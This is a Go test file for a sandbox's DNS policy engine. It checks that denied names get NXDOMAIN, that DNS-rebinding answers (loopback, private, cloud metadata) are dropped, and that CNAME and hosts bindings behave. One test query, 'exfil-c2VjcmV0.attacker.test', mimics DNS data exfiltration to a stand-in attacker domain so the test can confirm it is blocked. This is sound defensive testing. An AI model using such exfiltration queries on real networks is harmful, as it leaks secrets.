package engine

import (
	"net"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"
)

// upstream is a real DNS server on 127.0.0.1 (UDP and TCP) that records
// every name it is asked.
type upstream struct {
	addr    netip.AddrPort
	mu      sync.Mutex
	queries []string
}

func newUpstream(t *testing.T, records map[string][]string) *upstream {
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := pc.LocalAddr().(*net.UDPAddr).Port
	ln, err := net.Listen("tcp", pc.LocalAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	u := &upstream{addr: netip.AddrPortFrom(netip.MustParseAddr("127.0.0.1"), uint16(port))}
	handler := dns.HandlerFunc(func(w dns.ResponseWriter, req *dns.Msg) {
		q := req.Question[0]
		u.mu.Lock()
		u.queries = append(u.queries, strings.ToLower(q.Name))
		u.mu.Unlock()
		m := new(dns.Msg)
		m.SetReply(req)
		for _, a := range records[strings.ToLower(q.Name)] {
			if target, ok := strings.CutPrefix(a, "cname:"); ok {
				m.Answer = append(m.Answer, &dns.CNAME{Hdr: dns.RR_Header{Name: q.Name, Rrtype: dns.TypeCNAME, Class: dns.ClassINET, Ttl: 5}, Target: target})
				continue
			}
			if owner, addr, ok := strings.Cut(a, "="); ok {
				ip := netip.MustParseAddr(addr)
				m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: owner, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 5}, A: net.IP(ip.AsSlice())})
				continue
			}
			ip := netip.MustParseAddr(a)
			if ip.Is4() && q.Qtype == dns.TypeA {
				m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 5}, A: net.IP(ip.AsSlice())})
			}
		}
		_ = w.WriteMsg(m)
	})
	us := &dns.Server{PacketConn: pc, Handler: handler}
	ts := &dns.Server{Listener: ln, Handler: handler}
	go func() { _ = us.ActivateAndServe() }()
	go func() { _ = ts.ActivateAndServe() }()
	t.Cleanup(func() {
		_ = us.Shutdown()
		_ = ts.Shutdown()
	})
	return u
}

func (u *upstream) saw(name string) bool {
	u.mu.Lock()
	defer u.mu.Unlock()
	for _, q := range u.queries {
		if q == dns.Fqdn(name) {
			return true
		}
	}
	return false
}

// query asks netd's resolver (at server:53) from the guest, over UDP or TCP.
func (h *harness) query(server, proto, name string) *dns.Msg {
	h.t.Helper()
	var conn net.Conn
	if proto == "tcp" {
		c, err := h.dial(server, 53)
		if err != nil {
			h.t.Fatalf("dns tcp: %v", err)
		}
		conn = c
	} else {
		conn = h.udp(server, 53)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	dc := &dns.Conn{Conn: conn}
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), dns.TypeA)
	if err := dc.WriteMsg(m); err != nil {
		h.t.Fatalf("dns write: %v", err)
	}
	r, err := dc.ReadMsg()
	if err != nil {
		h.t.Fatalf("dns %s %s: %v", proto, name, err)
	}
	return r
}

func answers(m *dns.Msg) []string {
	var out []string
	for _, rr := range m.Answer {
		if a, ok := rr.(*dns.A); ok {
			out = append(out, a.A.String())
		}
	}
	return out
}

func TestDNSUnderPolicy(t *testing.T) {
	up := newUpstream(t, map[string][]string{
		"allowed.test.": {"203.0.113.7"},
		"denied.test.":  {"203.0.113.8"},
		"rebind.test.":  {"127.0.0.1", "203.0.113.9", "10.1.2.3", "169.254.169.254"},
		"chain.test.":   {"cname:target.test.", "target.test.=203.0.113.20"},
	})
	rules := `[{"action":"allow","dest":{"kind":"domain","name":"allowed.test"},"id":"allow@allowed.test"},
		{"action":"allow","dest":{"kind":"domain","name":"rebind.test"},"id":"allow@rebind.test"},
		{"action":"allow","dest":{"kind":"domain","name":"chain.test"},"id":"allow@chain.test"}]`
	h := start(t, baseConfig(t, rules, "deny", map[string]any{"dns": map[string]any{"upstream": []string{up.addr.String()}}}))

	// A name no rule could allow: NXDOMAIN, and the upstream never sees it
	// (over UDP and TCP, at both of netd's DNS addresses).
	for _, server := range []string{"10.0.2.3", "10.0.2.2"} {
		for _, proto := range []string{"udp", "tcp"} {
			if r := h.query(server, proto, "denied.test"); r.Rcode != dns.RcodeNameError {
				t.Fatalf("denied.test via %s/%s: rcode %d", server, proto, r.Rcode)
			}
			if r := h.query(server, proto, "exfil-c2VjcmV0.attacker.test"); r.Rcode != dns.RcodeNameError {
				t.Fatalf("exfil via %s/%s: rcode %d", server, proto, r.Rcode)
			}
		}
	}
	// Positive control, same client, same run: the allowed name is forwarded
	// and answered.
	r := h.query("10.0.2.3", "udp", "allowed.test")
	if r.Rcode != dns.RcodeSuccess || strings.Join(answers(r), ",") != "203.0.113.7" {
		t.Fatalf("allowed.test: rcode %d answers %v", r.Rcode, answers(r))
	}
	if r := h.query("10.0.2.3", "tcp", "Allowed.Test"); strings.Join(answers(r), ",") != "203.0.113.7" {
		t.Fatalf("allowed.test over tcp: %v", answers(r))
	}
	if !up.saw("allowed.test") {
		t.Fatal("the upstream never saw the allowed name")
	}
	if up.saw("denied.test") || up.saw("exfil-c2VjcmV0.attacker.test") {
		t.Fatal("a denied name reached the upstream")
	}
	if evs := h.eventsFor("10.0.2.3"); len(evs) == 0 || evs[0].Reason != "dns" || evs[0].Action != "denied" || evs[0].Name != "denied.test" {
		t.Fatalf("dns events: %+v", evs)
	}
	// The answer is bound to the name in the sandbox's table.
	if names := h.e.names.Lookup(netip.MustParseAddr("203.0.113.7")); len(names) != 1 || names[0] != "allowed.test" {
		t.Fatalf("name table: %v", names)
	}
	// A CNAME chain binds its address to the name asked, never to a name the
	// answer chose.
	if got := strings.Join(answers(h.query("10.0.2.3", "udp", "chain.test")), ","); got != "203.0.113.20" {
		t.Fatalf("chain.test: %q", got)
	}
	if names := h.e.names.Lookup(netip.MustParseAddr("203.0.113.20")); len(names) != 1 || names[0] != "chain.test" {
		t.Fatalf("chain binding: %v", names)
	}
	// Rebinding: an allowed public name pointing at loopback, private or
	// metadata addresses keeps only its public answer.
	r = h.query("10.0.2.3", "udp", "rebind.test")
	if got := strings.Join(answers(r), ","); got != "203.0.113.9" {
		t.Fatalf("rebind.test answers %q, want only the public one", got)
	}
	if evs := h.eventsFor("127.0.0.1"); len(evs) == 0 || evs[0].Reason != "rebinding" {
		t.Fatalf("rebinding events: %+v", evs)
	}
	if len(h.e.names.Lookup(netip.MustParseAddr("127.0.0.1"))) != 0 {
		t.Fatal("a dropped answer was bound to the name")
	}

	// Positive control for rebinding: the loopback group allowed keeps it.
	rules2 := `[{"action":"allow","dest":{"kind":"domain","name":"rebind.test"},"id":"a"},
		{"action":"allow","dest":{"kind":"group","group":"loopback"},"id":"lo"}]`
	h2 := start(t, baseConfig(t, rules2, "deny", map[string]any{"dns": map[string]any{"upstream": []string{up.addr.String()}}}))
	if got := strings.Join(answers(h2.query("10.0.2.3", "udp", "rebind.test")), ","); got != "127.0.0.1,203.0.113.9" {
		t.Fatalf("rebind.test with loopback allowed: %q", got)
	}
}

func TestDNSHostsAndDomainRulesBindToResolvedAddresses(t *testing.T) {
	srv := newEchoServer(t)
	rules := `[{"action":"allow","dest":{"kind":"domain","name":"svc.test"},"protocols":["tcp"],"id":"allow@svc.test:tcp"}]`
	h := start(t, baseConfig(t, rules, "deny", map[string]any{"dns": map[string]any{"hosts": map[string]string{"svc.test": "10.0.2.254"}}}))
	// Before the guest resolved the name, the address matches no domain rule.
	refusedFast(t, h, "10.0.2.254", srv.port)
	// dns.hosts is answered by netd itself.
	r := h.query("10.0.2.3", "udp", "svc.test")
	if got := strings.Join(answers(r), ","); got != "10.0.2.254" || !r.Authoritative {
		t.Fatalf("svc.test: %q", got)
	}
	c, err := h.dial("10.0.2.254", srv.port)
	if err != nil {
		t.Fatalf("after resolving svc.test: %v", err)
	}
	defer c.Close()
	if got, err := echoOnce(c, "named"); err != nil || got != "named" {
		t.Fatalf("echo: %q %v", got, err)
	}
	evs := h.eventsFor("10.0.2.254")
	if last := evs[len(evs)-1]; last.Action != "allowed" || last.Name != "svc.test" || last.Rule != "allow@svc.test:tcp" {
		t.Fatalf("event: %+v", last)
	}
	// UDP to the same name is not in the rule.
	u := newUDPEcho(t)
	uc := h.udp("10.0.2.254", u.port)
	_, _ = uc.Write([]byte("x"))
	time.Sleep(100 * time.Millisecond)
	if u.count() != 0 {
		t.Fatal("udp reached the host past a tcp-only rule")
	}
	// host.krunbox.internal names hostAddress.
	if got := strings.Join(answers(h.query("10.0.2.3", "udp", "host.krunbox.internal")), ","); got != "10.0.2.254" {
		t.Fatalf("host.krunbox.internal: %q", got)
	}
}

func TestDNSUpstreamDownIsServfail(t *testing.T) {
	pc, _ := net.ListenPacket("udp", "127.0.0.1:0")
	addr := pc.LocalAddr().String()
	pc.Close() // nothing answers there
	h := start(t, baseConfig(t, rulesPublic, "deny", map[string]any{"dns": map[string]any{"upstream": []string{addr}}}))
	t0 := time.Now()
	if r := h.query("10.0.2.3", "udp", "example.test"); r.Rcode != dns.RcodeServerFailure {
		t.Fatalf("rcode %d", r.Rcode)
	}
	if time.Since(t0) > 4*time.Second {
		t.Fatalf("servfail after %v", time.Since(t0))
	}
}
